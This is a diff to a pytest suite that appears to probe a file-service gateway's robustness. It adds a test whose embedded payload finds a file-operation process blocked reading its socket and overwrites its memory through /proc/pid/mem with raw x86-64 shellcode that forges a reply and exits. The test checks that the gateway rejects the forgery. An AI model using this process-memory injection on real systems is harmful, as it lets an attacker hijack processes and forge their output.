@@ -8,7 +8,8 @@ import zipfile
 import pytest
 
 import harness
-from arena import ANSWER_SECONDS, attack
+from arena import ANSWER_SECONDS, attack, needs_x86_64
+from rawhttp import Connection
 
 
 def call(arena, method, path="", **more):
@@ -237,3 +238,49 @@ threading.Thread(target=meddle, daemon=True).start()
         assert answer.status_code in (200, 429, 503, 504) and "x-evil" not in answer.headers
         answer = call(arena, "PUT", "/f", content=b"x" * 100000)
         assert answer.status_code in (200, 201, 429, 500, 503, 504) and "x-evil" not in answer.headers
+
+
+# Writes, into the memory of the operation that reads its socket, what answers in its place and ends it in good order.  It does
+# so when the operation is given more bytes, as x86-64 instructions in place of those behind its system call.
+IMPERSONATION = """
+import json, os, struct, time
+entry = {"path": "f", "type": "file", "size": 1, "mode": "0644", "modified_at": "2020-01-01T00:00:00.000Z", "etag": ETAG}
+text = json.dumps({"entry": entry, "created": True}).encode()
+answer = struct.pack(">I", len(text)) + text
+program = (b"\\x31\\xff\\xb8\\x01\\0\\0\\0\\xba" + struct.pack("<I", len(answer)) + b"\\x48\\x8d\\x35\\x0b\\0\\0\\0"  # write(0, answer, ...
+           b"\\x0f\\x05\\x31\\xff\\xb8\\xe7\\0\\0\\0\\x0f\\x05" + answer)  # exit_group(0)
+def is_reading(pid):
+    return b'--file-operation' in open(f'/proc/{pid}/cmdline', 'rb').read() and open(f'/proc/{pid}/syscall').read().startswith('0 0x0 ')
+def find():
+    for pid in filter(str.isdigit, os.listdir('/proc')):
+        try:
+            if is_reading(pid): return pid
+        except OSError: pass
+    time.sleep(0.01)
+while not (pid := find()): pass
+with open(f'/proc/{pid}/mem', 'r+b', 0) as mem:
+    mem.seek(int(open(f'/proc/{pid}/syscall').read().split()[-1], 16))
+    mem.write(program)
+print('taken over')
+"""
+
+
+@attack("files", "crashes the gateway by the answer of an operation, and its end, before the file that a form brings has ended", runsc=False)
+@needs_x86_64
+@pytest.mark.crun_only("gVisor lets no process write to the memory of another")
+def test_an_answer_before_the_end_of_a_form(arena):
+    assert call(arena, "PUT", "/f", content=b"x").status_code == 201
+    etag = call(arena, "GET", "/f", headers={"Range": "bytes=0-0"}).headers["etag"].strip('"')
+    part = b'--b\r\nContent-Disposition: form-data; name="file"; filename="f"\r\n\r\n' + b"x" * 100
+    rest = b"x" * 100
+    end = b"\r\n--b--\r\n"
+    with Connection(arena.gateway) as form:
+        head = form.request("POST", f"/v1/sessions/{arena.user}/files", length=False,
+                            headers=["Content-Type: multipart/form-data; boundary=b", f"Content-Length: {len(part + rest + end)}"])
+        form.send(head + part)
+        assert arena.gateway.text(arena.user, IMPERSONATION.replace("ETAG", repr(etag))) == "taken over\n"
+        form.send(rest)
+        code(arena, "while os.path.exists(f'/proc/{pid}'): time.sleep(0.01)")
+        form.send(end)
+        answer = form.response()
+        assert answer.status == 503 and answer.json()["error"]["message"] == "The file operation answered what is no reply"
